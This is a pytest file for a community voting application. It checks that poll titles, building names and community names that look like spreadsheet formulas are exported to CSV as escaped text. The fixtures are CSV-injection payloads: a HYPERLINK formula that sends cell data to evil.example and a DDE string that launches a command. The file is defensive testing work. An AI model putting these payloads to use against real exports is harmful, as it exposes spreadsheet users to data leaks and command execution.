"""Titles and names that look like formulas reach the CSV tables as text."""

import csv
import io

from sqlalchemy import select

from app.community.models import Role
from app.extensions import db
from app.voting.models import RollEntry
from app.voting.services import audit_package
from tests.insights.test_pages import dashboard_url

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_a_formula_title_and_question_are_text_in_polls_csv(town, client, login):
    town.proposal.title = TITLE
    town.poll.question = "+cmd|' /C calc'!A0"
    db.session.commit()
    login(town.admin)
    [_header, row] = _rows(client.get(dashboard_url(town) + "/polls.csv"))
    assert row[:2] == ["'" + TITLE, "'+cmd|' /C calc'!A0"]


def test_a_formula_building_name_is_text_in_the_buildings_table(town, client, login):
    town.buildings["A栋"].name = "@SUM(1+1)*cmd"
    db.session.commit()
    login(town.admin)
    rows = _rows(client.get(dashboard_url(town) + "/participation_buildings.csv"))
    assert ["'@SUM(1+1)*cmd", "一网格"] in [row[:2] for row in rows]


def test_a_formula_community_name_is_text_in_the_communities_table(town, client, login,
                                                                  give_role):
    town.community.name = "-1+HYPERLINK(1)"
    db.session.commit()
    give_role(town.admin, Role.PLATFORM_ADMIN)
    login(town.admin)
    rows = _rows(client.get("/insights/communities.csv"))
    assert "'-1+HYPERLINK(1)" in [row[0] for row in rows]


def test_a_formula_building_name_is_text_in_the_audit_package(town):
    entry = db.session.execute(select(RollEntry).where(
        RollEntry.poll_id == town.poll.id, RollEntry.label == "B栋-201")).scalar_one()
    entry.units = [["=1+1", unit, area] for _building, unit, area in entry.units]
    db.session.commit()
    roster = list(csv.reader(io.StringIO(audit_package(town.poll)["roster.csv"])))
    assert "'=1+1" in [row[1] for row in roster]
    assert "=1+1" not in [row[1] for row in roster]
